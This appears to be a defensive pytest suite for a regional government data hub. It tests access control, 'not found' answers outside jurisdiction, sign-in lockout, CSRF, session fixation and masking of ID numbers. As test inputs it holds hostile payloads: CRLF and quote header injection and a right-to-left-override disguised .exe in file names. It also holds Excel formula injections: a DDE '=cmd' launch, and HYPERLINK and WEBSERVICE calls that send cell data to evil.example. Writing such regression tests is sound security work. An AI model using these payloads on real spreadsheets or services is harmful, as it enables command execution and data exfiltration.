"""A hostile department probes the new surfaces: documents, sign-in and sessions, task sheets, statistics.

Each test is one attack, tried as the demo users it concerns. An attack that is blocked keeps its test
(it guards the future); one that got through was fixed, and its test failed before the fix. The rule
under test is DESIGN §8 "No oracles": no answer depends on what the caller may not read; outside
jurisdiction is "not found", never "forbidden"; every read is recorded.
"""

from __future__ import annotations

import datetime as dt
import json

import httpx
from sqlalchemy import select, update

from hub import clock
from hub.access import accounts, passwords
from hub.data.models import AccessLogEntry, DocumentKind, Role, User
from hub.forms import document_files
from tests.conftest import graphql
from tests.support.document_files import pdf, xlsx
from tests.test_documents import GRANT, LEDGER, READ_LOG, errors_of, uploaded
from tests.test_queries import region_code
from tests.test_requests import (
    FILE,
    REVIEW,
    TASK_ROWS,
    one_village_request,
    request_input,
    table_counts,
)
from tests.test_sign_in import PASSWORD, _error, browser, ready, sign_in

HEADER = """query($id: ID!, $row: Int!) { document(id: $id) { file { sheet(index: 0) { header(headerRow: $row) } } } }"""


async def _grant(town, **given) -> dict:
    granted = (await graphql(town, GRANT, {"input": {"validUntil": "2026-12-31", "purpose": "检查", "mode": "VIEW"} | given}))
    assert granted["grantDocumentAccess"]["errors"] == [], granted
    return granted["grantDocumentAccess"]["grant"]


# --- documents -------------------------------------------------------------------------------------


async def test_a_grantee_reading_a_sheet_row_by_row_through_header_is_logged(as_user, engine):
    """`header(headerRow: n)` returns any row of the sheet: each such read is a view, in the owner's read log."""
    async with as_user("xitianwei") as town:
        ledger = await uploaded(town, engine, xlsx(LEDGER), "台账.xlsx", title="台账（逐行探查）", category="WORK_LEDGER", year="2023")
        await _grant(town, documentId=ledger["id"], granteeUnit="应急管理局")
    async with as_user("yingji") as analyst:
        row = (await graphql(analyst, HEADER, {"id": ledger["id"], "row": 4}))["document"]["file"]["sheet"]["header"]
        assert row == ["霞尾村", "1,040", "8", "数字写成了文字"]
    async with as_user("xitianwei") as town:
        log = (await graphql(town, READ_LOG, {"id": ledger["id"]}))["document"]["readLog"]
    assert [(e["username"], e["action"], e["part"]) for e in log] == [("yingji", "VIEW", "工作表“台账”第 4 行（表头）")]


async def test_an_ended_set_grant_does_not_reveal_documents_added_after_it_ended(as_user, engine):
    """Grantees of a set (category + year) learn "expired" only for documents the grant covered while it lasted."""
    async with as_user("xitianwei") as town:
        before = await uploaded(town, engine, pdf(1), "旧.pdf", title="2022年规划（授权前）", category="POLICY", year="2022")
        grant = await _grant(town, category="POLICY", year=2022, granteeUsername="zhujian", validUntil="2026-11-20")
        assert [d["id"] for d in grant["documents"]] == [before["id"]]
    with clock.pinned(dt.date(2026, 11, 25)):
        async with as_user("xitianwei") as town:
            after = await uploaded(town, engine, pdf(1), "新.pdf", title="2022年规划（授权到期后补传）", category="POLICY", year="2022")
        async with as_user("zhujian") as stranger:
            old = await stranger.get(f"/documents/{before['id']}/versions/1/pages/1.png")
            new = await stranger.get(f"/documents/{after['id']}/versions/1/pages/1.png")
            missing = await stranger.get("/documents/987654321/versions/1/pages/1.png")
            found = await graphql(stranger, "query($id: ID!) { document(id: $id) { id } }", {"id": after["id"]})
    assert (old.status_code, errors_of(old)[0]["code"]) == (403, "GRANT_EXPIRED")
    assert (new.status_code, errors_of(new)) == (404, [{"message": f"找不到 id 为 {after['id']} 的文档", "code": "NOT_FOUND"}])
    assert missing.status_code == 404 and found["document"] is None


async def test_a_stranger_cannot_tell_a_document_or_its_versions_from_none(as_user, engine, app):
    async with as_user("xitianwei") as town:
        report = await uploaded(town, engine, pdf(2), "报告.pdf", title="探查用报告", category="OTHER", year="2021")
        assert (await town.post(f"/documents/{report['id']}/versions", params={"fileName": "v2.pdf"}, content=pdf(1))).status_code == 201
    for who in ("weijian", "dongxing", "licheng-minzheng"):
        async with as_user(who) as stranger:
            answers = []
            for document_id in (report["id"], "987654321"):
                paths = [f"/documents/{document_id}/versions/{n}/{part}" for n in (1, 2, 9) for part in ("pages/1.png", "file")]
                answers.append([(r.status_code, r.json()["errors"][0]["code"], r.json()["errors"][0]["message"].replace(document_id, "N"))
                                for r in [await stranger.get(p) for p in paths]])
                upload = await stranger.post(f"/documents/{document_id}/versions", params={"fileName": "x.pdf"}, content=pdf(1))
                answers[-1].append((upload.status_code, upload.json()["errors"][0]["message"].replace(document_id, "N")))
            assert answers[0] == answers[1], who
            assert {a[0] for a in answers[0]} == {404}
            data = await graphql(stranger, """query($id: ID!) { document(id: $id) { id } documents { totalCount }
              sharedWithMe { documents { id } } }""", {"id": report["id"]})
            assert data["document"] is None
            assert report["id"] not in {d["id"] for g in data["sharedWithMe"] for d in g["documents"]}
            edit = await graphql(stranger, """mutation($id: ID!) { withdrawDocument(id: $id, version: 1) { errors { code message } } }""",
                                 {"id": report["id"]})
            assert edit["withdrawDocument"]["errors"] == [{"code": "NOT_FOUND", "message": f"id：找不到 id 为 {report['id']} 的文档"}]
    # Every refused read is in the access log, as refused.
    await app.state.access_log.flush()
    async with engine.connect() as connection:
        refused = (await connection.execute(select(AccessLogEntry.operation_name).where(
            AccessLogEntry.username == "weijian", AccessLogEntry.outcome == "refused",
            AccessLogEntry.operation_name.in_(["documentPage", "documentDownload"])))).scalars().all()
    assert len(refused) >= 12


async def test_a_grantee_of_one_document_or_one_region_reaches_no_other(as_user, engine, client):
    async with as_user("xitianwei") as town:
        shared = await uploaded(town, engine, pdf(1), "共享.pdf", title="授权的一份", category="OTHER", year="2020")
        sibling = await uploaded(town, engine, pdf(1), "未共享.pdf", title="同一单位的另一份", category="OTHER", year="2020")
        village = (await graphql(client, '{ regions(nameContains: "东星社区") { nodes { code } } }'))["regions"]["nodes"][0]["code"]
        other = (await graphql(client, '{ regions(nameContains: "溪白村") { nodes { code } } }'))["regions"]["nodes"][0]["code"]
        in_village = await uploaded(town, engine, pdf(1), "东星.pdf", title="东星的", category="WORK_LEDGER", year="2020", regionCode=village)
        elsewhere = await uploaded(town, engine, pdf(1), "溪白.pdf", title="溪白的", category="WORK_LEDGER", year="2020", regionCode=other)
        await _grant(town, documentId=shared["id"], granteeUnit="住建局", mode="DOWNLOAD")
        await _grant(town, category="WORK_LEDGER", year=2020, regionCode=village, granteeUnit="住建局")
    async with as_user("zhujian") as grantee:
        assert (await grantee.get(f"/documents/{shared['id']}/versions/1/file")).status_code == 200
        assert (await grantee.get(f"/documents/{in_village['id']}/versions/1/pages/1.png")).status_code == 200
        for document in (sibling, elsewhere):
            for path in ("pages/1.png", "file"):
                response = await grantee.get(f"/documents/{document['id']}/versions/1/{path}")
                assert (response.status_code, errors_of(response)[0]["code"]) == (404, "NOT_FOUND")
        # A view-only grant gives no way to the file: no link, the file path refused, the page is an image.
        opened = (await graphql(grantee, "query($id: ID!) { document(id: $id) { file { mayDownload downloadUrl } } }",
                                {"id": in_village["id"]}))["document"]["file"]
        assert opened == {"mayDownload": False, "downloadUrl": None}
        assert (await grantee.get(f"/documents/{in_village['id']}/versions/1/file")).status_code == 403



async def test_a_village_cannot_file_a_document_under_a_region_outside_its_own(as_user, client, app):
    other = (await graphql(client, '{ regions(nameContains: "溪白村") { nodes { code } } }'))["regions"]["nodes"][0]["code"]
    before = app.state.blobs.count()
    async with as_user("dongxing") as cadre:
        answers = [(await cadre.post("/documents", params={"title": "探查", "category": "OTHER", "year": "2024", "regionCode": code,
                                                            "fileName": "a.pdf"}, content=pdf(1))) for code in (other, "350399999999")]
    assert [(a.status_code, a.json()["errors"][0]["code"]) for a in answers] == [(422, "NOT_FOUND")] * 2
    assert [a.json()["errors"][0]["message"].replace(code, "N") for a, code in zip(answers, (other, "350399999999"), strict=True)] == [
        "regionCode（涉及区划）：找不到代码为 N 的区划"] * 2
    assert app.state.blobs.count() == before


def test_a_file_name_cannot_inject_a_header_or_disguise_its_type():
    for given, kind in (("报告\r\nSet-Cookie: x=1.pdf", DocumentKind.PDF), ('a"; filename="evil.exe', DocumentKind.PDF),
                        ("照片\u202egpj.exe", DocumentKind.PDF), ("纪要\u200b\u2066.docx", DocumentKind.DOCX)):
        cleaned = document_files.clean_file_name(given, kind)
        assert not any(c in cleaned for c in '\r\n"\u202e\u200b\u2066;'), cleaned
    assert document_files.clean_file_name("照片\u202egpj.exe", DocumentKind.PDF) == "照片gpj.pdf"


# --- sign-in and sessions -------------------------------------------------------------------------------


async def test_unknown_known_and_deactivated_names_answer_alike_through_the_lockout(app, engine):
    await accounts.add_user(engine, "probe-gone", "离职人员", "数字办", Role.ADMIN, "350300000000")
    await passwords.set_password(engine, "probe-gone", PASSWORD, must_change=False)
    async with engine.begin() as connection:
        await connection.execute(update(User).where(User.username == "probe-gone").values(active=False))
    await accounts.add_user(engine, "probe-known", "在职人员", "数字办", Role.ADMIN, "350300000000")
    await passwords.set_password(engine, "probe-known", PASSWORD, must_change=False)
    answers = {}
    for name, password in (("probe-known", "wrong-pass-1"), ("nobody-probe", "wrong-pass-1"), ("probe-gone", PASSWORD)):
        async with browser(app) as client:
            answers[name] = [_error(await sign_in(client, name, password)) for _ in range(6)]
    assert answers["probe-known"] == answers["nobody-probe"] == answers["probe-gone"]
    assert answers["probe-known"][0] == (401, "SIGN_IN_FAILED", "用户名或密码不正确")
    assert answers["probe-known"][5][:2] == (429, "SIGN_IN_LOCKED")
    async with browser(app) as client:  # the right password of a locked name, from a fresh address: still locked
        assert _error(await sign_in(client, "probe-known", PASSWORD))[:2] == (429, "SIGN_IN_LOCKED")


async def test_a_cookie_cannot_mutate_by_get_multipart_or_text_plain(app, engine, as_user):
    mutation = 'mutation { withdrawDocument(id: "1", version: 1) { errors { code } } }'
    async with browser(app) as client:
        await ready(engine, client, "shichang")
        by_get = await client.get("/graphql", params={"query": mutation})
        assert by_get.status_code == 405
        plain = await client.post("/graphql", content=json.dumps({"query": mutation}), headers={"content-type": "text/plain"})
        multipart = await client.post("/documents", params={"title": "x", "category": "OTHER", "year": "2024"}, files={"file": ("a.pdf", pdf(1))})
        for response in (plain, multipart):
            assert _error(response)[:2] == (403, "CSRF_REFUSED")
        new_token = await client.post("/app/api/tokens", json={})
        assert _error(new_token)[:2] == (403, "CSRF_REFUSED")


async def test_a_planted_session_cookie_is_never_adopted(app, engine):
    await passwords.set_password(engine, "renshe", PASSWORD, must_change=False)
    async with browser(app) as client:
        client.cookies.set("hub_session", "attacker-chosen-value")
        issued = await sign_in(client, "renshe", PASSWORD)
        assert issued.status_code == 200
        assert issued.cookies["hub_session"] != "attacker-chosen-value"
    async with browser(app) as attacker:
        attacker.cookies.set("hub_session", "attacker-chosen-value")
        assert _error(await attacker.get("/app/api/session"))[1] == "SESSION_EXPIRED"


async def test_no_session_survives_a_password_reset_or_deactivation(app, engine):
    await accounts.add_user(engine, "probe-reset", "被重置的人", "数字办", Role.ADMIN, "350300000000")
    async with browser(app) as client:
        await ready(engine, client, "probe-reset")
        # An administrator resets the password (e.g. the old one leaked): the session made with the old one ends.
        await passwords.set_password(engine, "probe-reset", "Another-pass-9")
        assert _error(await client.get("/app/api/session"))[1] == "SESSION_EXPIRED"
    async with browser(app) as client:
        await ready(engine, client, "probe-reset")
        async with engine.begin() as connection:
            await connection.execute(update(User).where(User.username == "probe-reset").values(active=False))
        assert _error(await client.get("/app/api/session"))[1] == "SESSION_EXPIRED"
        assert _error(await client.get("/graphql", params={"query": "{ inbox { message } }"}))[1] == "SESSION_EXPIRED"


async def test_the_live_socket_refuses_a_cookie_from_another_origin(live_server, engine):
    from websockets.asyncio.client import connect

    await passwords.set_password(engine, "weijian", PASSWORD, must_change=False)
    async with httpx.AsyncClient(base_url=live_server) as client:
        assert (await sign_in(client, "weijian", PASSWORD)).status_code == 200
        cookie = f"hub_session={client.cookies['hub_session']}"
    url = live_server.replace("http://", "ws://") + "/graphql"
    host = live_server.split("://", 1)[1]
    outcomes = {}
    for origin in ("https://evil.example", f"http://{host}"):
        async with connect(url, subprotocols=["graphql-transport-ws"], additional_headers={"cookie": cookie, "origin": origin}) as socket:
            await socket.send(json.dumps({"type": "connection_init", "payload": {}}))
            try:
                outcomes[origin] = json.loads(await socket.recv())["type"]
            except Exception as closed:  # noqa: BLE001 - the refusal is a close
                outcomes[origin] = getattr(getattr(closed, "rcvd", None), "code", "closed")
    assert outcomes[f"http://{host}"] == "connection_ack"
    assert outcomes["https://evil.example"] != "connection_ack"


# --- tasks and statistics -----------------------------------------------------------------------------


async def test_another_departments_task_reads_as_missing_to_a_department(as_user, client):
    _, task_id, _ = await one_village_request(as_user, client, title="急救包（他部门探查）")  # 应急管理局's
    for path in (f"/tasks/{task_id}/fill-sheet.xlsx", "/tasks/987654321/fill-sheet.xlsx"):
        async with as_user("minzheng") as other:
            response = await other.get(path)
            assert (response.status_code, response.json()["errors"][0]["code"]) == (404, "NOT_FOUND"), path
    async with as_user("minzheng") as other:
        for task in (task_id, "987654321"):  # (a department's view has no fillTask: it checks, it does not fill)
            accepted = await graphql(other, "mutation($t: ID!) { acceptTask(taskId: $t) { errors { code message } } }", {"t": task})
            assert accepted["acceptTask"]["errors"] == [{"code": "NOT_FOUND", "message": f"taskId：找不到 id 为 {task} 的村级任务"}]
        assert (await graphql(other, "query($t: ID!) { villageTask(id: $t) { id } }", {"t": task_id}))["villageTask"] is None


async def test_department_statistics_count_only_requests_in_its_jurisdiction(as_user, client):
    """荔城区民政局 reads 民政局's requests in 荔城区 only: its figures are of those, not of the whole city's."""
    query = "query($s: Date) { departmentRequestStatistics(since: $s) { filed answeredFromHub inReview cellsFromHub } }"
    today = str(clock.today())
    async with as_user("licheng-minzheng") as district:
        before = (await graphql(district, query, {"s": today}))["departmentRequestStatistics"]
    hanjiang = (await graphql(client, '{ regions(nameContains: "涵东街道") { nodes { code } } }'))["regions"]["nodes"][0]["code"]
    async with as_user("minzheng") as city:
        filed = (await graphql(city, FILE, {"input": request_input(hanjiang, [{"path": "name"}, {"define": {
            "key": "probe_volunteers", "label": "志愿者（人）", "entity": "VILLAGE", "type": "INTEGER", "periodicity": "MONTH",
            "legalBasis": "测试依据"}}], title="涵江区志愿者（统计探查）")}))["fileRequest"]
        assert filed["errors"] == [], filed
    async with as_user("licheng-minzheng") as district:
        after = (await graphql(district, query, {"s": today}))["departmentRequestStatistics"]
        visible = await graphql(district, "query($id: ID!) { dataRequest(id: $id) { id } }", {"id": filed["request"]["id"]})
    assert visible["dataRequest"] is None
    assert after == before


async def test_a_town_coordinator_gets_no_statistics_of_another_town(as_user, client):
    other = (await graphql(client, '{ regions(nameContains: "涵东街道") { nodes { code } } }'))["regions"]["nodes"][0]["code"]
    query = "query($c: String!) { requestStatistics(townCode: $c) { received } }"
    async with as_user("xitianwei") as town:
        outside = (await town.post("/graphql", json={"query": query, "variables": {"c": other}})).json()
        missing = (await town.post("/graphql", json={"query": query, "variables": {"c": "350399999000"}})).json()
    assert [e["extensions"]["code"] for e in outside["errors"]] == [e["extensions"]["code"] for e in missing["errors"]]
    assert outside["errors"][0]["message"].replace(other, "N") == missing["errors"][0]["message"].replace("350399999000", "N")



async def test_a_department_cannot_file_a_request_on_rows_it_cannot_list(as_user, client, schemas, engine):
    """市场监管局 has no persons: a request on persons would name them to it (each task row's label is a person's
    name) — it used to fail with an internal error after the request was written, waiting in the town's queue."""
    assert "persons" not in schemas.departments["shichang"]._schema.query_type.fields
    dongxing = await region_code(client, "东星社区")
    before = await table_counts(engine)
    async with as_user("shichang") as market:
        filed = (await graphql(market, FILE, {"input": request_input(dongxing, [{"define": {
            "key": "probe_stalls", "label": "经营摊位（个）", "entity": "PERSON", "type": "INTEGER", "periodicity": "MONTH",
            "legalBasis": "测试依据"}}], entity="PERSON", title="个体摊位（名单探查）")}))["fileRequest"]
    assert filed["errors"] == [{"field": "input.entity", "code": "NOT_GRANTED",
                                "message": "input.entity：本部门未获授权读取人员名单，不能就人员发起填报任务：请先向数据中心申请授权"}]
    assert await table_counts(engine) == before


async def test_a_masked_id_number_cannot_be_rebuilt_by_asking_villages_for_what_the_hub_holds(as_user, client, engine):
    """卫健委 reads ID numbers masked (the stars are the birth date) and may not read birth dates: a new indicator
    “出生日期” would have the villages type in exactly what the mask hides. The hub holds it: the request must name
    the field, and then waits for a grant like any held, ungranted column."""
    dongxing = await region_code(client, "东星社区")
    before = await table_counts(engine)
    async with as_user("weijian") as health:
        for label in ("出生日期", "出生日期（年月日）", " 出生 日期 "):
            filed = (await graphql(health, FILE, {"input": request_input(dongxing, [{"path": "idNumber"}, {"define": {
                "key": "probe_born", "label": label, "entity": "PERSON", "type": "DATE", "periodicity": "MONTH",
                "legalBasis": "测试依据"}}], entity="PERSON", title="出生日期（掩码探查）")}))["fileRequest"]
            assert filed["errors"] == [{"field": "input.columns[1].define.label", "code": "HELD", "message":
                "input.columns[1].define.label：数据中心已有“出生日期”（Person.birthDate）：请用 path 引用该字段（birthDate），不必新定义指标"}], label
        named = (await graphql(health, FILE, {"input": request_input(dongxing, [{"path": "idNumber"}, {"path": "birthDate"}],
                                                                     entity="PERSON", title="出生日期（掩码探查）")}))["fileRequest"]
    assert named["request"]["status"] == "NEEDS_GRANT"
    assert await table_counts(engine) == tuple(n + (i == 0) for i, n in enumerate(before))  # that one request, no indicator


async def test_an_open_session_cannot_guess_the_password_without_limit(app, engine):
    """Whoever finds a browser signed in must not learn the password (to use elsewhere) by trying it as the current one."""
    await accounts.add_user(engine, "probe-guess", "被猜的人", "数字办", Role.ADMIN, "350300000000")
    async with browser(app) as client:
        csrf = {"x-csrf-token": await ready(engine, client, "probe-guess")}
        guesses = [_error(await client.post("/app/api/password", json={"current": f"guess-{n}", "new": "Brand-new-pass-1"}, headers=csrf))
                   for n in range(5)]
        assert guesses == [(400, "WRONG_PASSWORD", "当前密码不正确")] * 5
        right = await client.post("/app/api/password", json={"current": PASSWORD, "new": "Brand-new-pass-1"}, headers=csrf)
        assert _error(right)[:2] == (429, "SIGN_IN_LOCKED")
    async with browser(app) as elsewhere:
        assert _error(await sign_in(elsewhere, "probe-guess", PASSWORD))[:2] == (429, "SIGN_IN_LOCKED")



async def test_the_base_columns_of_a_departments_request_read_as_its_view_reads_them(as_user, client):
    """卫健委 names ID numbers (masked for it) as a base column: its task rows, and its progress, show them masked."""
    from hub.access.masking import mask_id_number

    dongxing = await region_code(client, "东星社区")
    async with as_user("weijian") as health:
        filed = (await graphql(health, FILE, {"input": request_input(dongxing, [{"path": "name"}, {"path": "idNumber"}, {"define": {
            "key": "probe_checkups", "label": "体检次数（探查）", "entity": "PERSON", "type": "INTEGER", "periodicity": "MONTH",
            "legalBasis": "测试依据"}}], entity="PERSON", title="体检次数（基础栏目探查）")}))["fileRequest"]
        assert filed["errors"] == [] and filed["request"]["status"] == "IN_REVIEW", filed
    async with as_user("xitianwei") as town:
        assert (await graphql(town, REVIEW, {"id": filed["request"]["id"], "d": "APPROVE"}))["reviewRequest"]["errors"] == []
    async with as_user("weijian") as health:
        (task,) = (await graphql(health, TASK_ROWS, {"id": filed["request"]["id"]}))["dataRequest"]["tasks"]
    async with as_user("admin") as admin:
        full = {p["id"]: p["idNumber"] for p in (await graphql(admin, """query($c: String!) {
          persons(regionCode: $c, first: 500) { nodes { id idNumber } } }""", {"c": dongxing}))["persons"]["nodes"]}
    assert len(task["rows"]) > 10
    for row in task["rows"]:
        (_, (header, value, granted)) = [(b["header"], b["value"], b["granted"]) for b in row["base"]]
        assert (header, value, granted) == ("公民身份号码", mask_id_number(full[row["entityId"]]), True)


# --- form onboarding ---------------------------------------------------------------------------------------


async def test_a_blank_with_formulas_becomes_a_form_with_text_never_formulas(as_user):
    """A blank's title, header and footer are copied into every export of its template: a formula there (a DDE
    command, a link home) must come out as the text it was, not run in the reader's Excel."""
    import io

    from openpyxl import Workbook, load_workbook

    from tests.test_onboarding import PROPOSE, SAVE, VILLAGE, b64

    hostile = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&B3,"点此")', "=WEBSERVICE(\"http://evil.example\")"]
    workbook = Workbook()
    sheet = workbook.active
    sheet.append([hostile[0]])
    sheet.append(["户主姓名", "家庭住址", "保障人口", hostile[1]])
    sheet.append([])
    sheet.append([hostile[2]])
    blank = io.BytesIO()
    workbook.save(blank)
    async with as_user("minzheng") as civil_affairs:
        proposal = (await graphql(civil_affairs, PROPOSE, {"f": b64(blank.getvalue()), "id": "minzheng-probe-formulas"}))["proposeTemplate"]
        assert proposal["errors"] == [], proposal
        saved = (await graphql(civil_affairs, SAVE, {"d": proposal["definition"]}))["saveTemplate"]
        assert saved["errors"] == [], saved
        exported = await civil_affairs.get("/exports/minzheng-probe-formulas.xlsx", params={"region": VILLAGE})
    assert exported.status_code == 200, exported.text
    form = load_workbook(io.BytesIO(exported.content)).active
    cells = [c for row in form.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    shown = {c.value for c in cells}
    assert {hostile[0], hostile[1]} <= shown  # kept, as text


# --- the PostgreSQL fast read path ---------------------------------------------------------------------------


async def test_masked_fields_and_enums_read_alike_on_either_path(as_user):
    """On PostgreSQL reads skip SQLAlchemy's result layer: masked values and enums must come out as on SQLite —
    what 卫健委 reads is the full value masked, whichever path read it, by id or in a list."""
    from hub.access.masking import mask_id_number, mask_phone

    query = """query($c: String!) { persons(regionCode: $c, first: 30) { nodes { id idNumber phone gender healthStatus } } }"""
    one = "query($id: ID!) { person(id: $id) { id idNumber phone gender healthStatus } }"
    async with as_user("admin") as admin:
        full = (await graphql(admin, query, {"c": "350304100001"}))["persons"]["nodes"]
    async with as_user("weijian") as health:
        listed = (await graphql(health, query, {"c": "350304100001"}))["persons"]["nodes"]
        single = [(await graphql(health, one, {"id": p["id"]}))["person"] for p in full[:3]]
    expected = [p | {"idNumber": mask_id_number(p["idNumber"]), "phone": mask_phone(p["phone"])} for p in full]
    assert listed == expected and single == expected[:3]
    assert all("*" in p["idNumber"] for p in listed) and {p["gender"] for p in listed} <= {"MALE", "FEMALE"}
